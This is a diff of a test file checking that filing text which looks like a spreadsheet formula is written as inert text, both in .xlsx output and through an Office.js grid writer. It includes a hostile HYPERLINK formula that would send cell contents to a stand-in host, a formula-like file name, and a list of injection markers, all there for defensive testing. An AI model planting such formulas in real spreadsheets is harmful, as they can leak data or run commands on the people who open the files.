@@ -6,13 +6,15 @@ import { checkFiling } from "../../src/core/checks";
 import { layoutWorkbook } from "../../src/core/layout";
 import type { Filing, ParseResult } from "../../src/core/model";
 import { parseFilings } from "../../src/core/parse";
+import { sheetGrid } from "../../src/excel/sheet-grid";
 import { writeXlsx } from "../../src/xlsx";
 import { readXlsx } from "../support/xlsx-hyperformula";
 
 /**
  * Issue 5, injection: text from a filing that begins like a formula (`=`, `+`, `-`, `@`) or with a
- * tab or CR survives the parser as text and lands in the .xlsx as a text cell, never as a formula;
- * filing text reaches a formula only inside a string literal or a quoted sheet name.
+ * tab or CR survives the parser as text and lands as text — in the .xlsx as a text cell, in Excel
+ * through the Office.js writer's grid as a quote-prefixed value in a Text-formatted cell — never as
+ * a formula; filing text reaches a formula only inside a string literal or a quoted sheet name.
  */
 const SAMPLE = readFileSync(join(__dirname, "../fixtures/citigroup-2013-06-18-daily-seg-focus-ii-amendment.txt"), "utf8");
 const FIRM = '=HYPERLINK("http://example.invalid/?"&A1,"Citigroup")';
@@ -113,5 +115,36 @@ describe("injection: filing text that looks like a formula stays text", () => {
   it.skip("KNOWN XLSX WRITER BUG: a carriage return in text re-reads as a line feed (XML end-of-line handling; OOXML writes it _x000D_)", async () => {
     const odd: Filing = { ...filing, firm: "\r=2+2 cr" };
     assert.ok(cells(await workbookOf(odd)).some((c) => c.value === "\r=2+2 cr"));
+  });
+});
+
+describe("injection: the Office.js writer's grid writes filing text as text", () => {
+  const filing = parseFilings(hostile).filings[0]!;
+  const plan = layoutWorkbook({ filings: [filing], findings: [checkFiling(filing)], sourceName: "=evil().txt", tolerance: 0 });
+  const grids = plan.sheets.map((sheet) => ({ sheet, grid: sheetGrid(sheet, plan.styles) }));
+
+  it("quote-prefixes every text or link cell that Excel could read as a formula, in a cell formatted as Text", () => {
+    let hostileCells = 0;
+    for (const { sheet, grid } of grids)
+      sheet.rows.forEach((row, r) =>
+        row.forEach((cell, c) => {
+          if ((cell?.kind !== "text" && cell?.kind !== "link") || !/^[=+\-@\t\r]/.test(cell.text)) return;
+          hostileCells++;
+          assert.equal(grid.formulas[r]?.[c], `'${cell.text}`, `${sheet.name} row ${r + 1}`);
+          assert.equal(grid.numberFormats[r]?.[c], "@");
+        }),
+      );
+    assert.ok(hostileCells >= LABELS.length + 2, `${hostileCells} hostile text cells`);
+  });
+
+  it("sends as a formula only what the plan built as one, with filing text only inside literals or quoted sheet names", () => {
+    for (const { sheet, grid } of grids)
+      grid.formulas.forEach((row, r) =>
+        row.forEach((value, c) => {
+          if (typeof value !== "string" || !value.startsWith("=")) return;
+          assert.equal(sheet.rows[r]?.[c]?.kind, "formula", `${sheet.name} row ${r + 1}: ${value}`);
+          for (const marker of ["HYPERLINK(\"http", "SUM(1,2)", "cmd", "calc", "evil", "1+1"]) assert.ok(!codeOf(value).includes(marker), value);
+        }),
+      );
   });
 });
